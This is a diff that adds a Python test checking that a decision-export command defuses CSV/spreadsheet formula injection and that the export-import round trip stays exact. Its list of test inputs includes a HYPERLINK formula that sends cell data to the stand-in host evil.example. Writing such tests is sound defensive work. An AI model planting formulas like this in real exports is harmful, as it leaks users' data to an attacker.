@@ -233,3 +233,29 @@ def test_export_then_import_round_trips(world: World, fresh_session: Session) ->
 
     originals = s.exec(select(Decision).where(Decision.outcome != "changes_requested")).all()
     assert sorted(map(key, rows)) == sorted(map(key, originals))  # type: ignore[type-var]
+
+
+def test_formula_reasons_are_neutralised_and_the_round_trip_stays_exact(
+    world: World, fresh_session: Session
+) -> None:
+    """`srx decisions export` writes =HYPERLINK(...) as '=HYPERLINK(...); the import takes the apostrophe off."""
+    s, officer = world.session, world.users["officer_a"]
+    hostile = [
+        '=HYPERLINK("http://evil.example/?d="&A2,"open")',
+        "+31 20 123 4567",
+        "-- geen bewijs",
+        "@SUM(1)",
+        "'=al met apostrof",
+        "'gewoon citaat",
+    ]
+    for reason in hostile:
+        m = world.pledge(quantity=1)
+        world.act(approvals.reject_match, actor=officer, match_id=m.id or 0, reason=reason)
+    exported = export_text(s)
+    cells = [line.rsplit(",", 1)[-1] for line in exported.splitlines()[1:]]
+    assert all(c.strip('"')[:1] not in "=+-@" for c in cells), cells
+    assert '\'=HYPERLINK(""http://evil.example/?d=""&A2,""open"")' in exported
+    build_world(fresh_session)
+    import_decisions(fresh_session, exported)
+    assert sorted(d.reason for d in fresh_session.exec(select(Decision)).all()) == sorted(hostile)
+    assert export_text(fresh_session) == exported
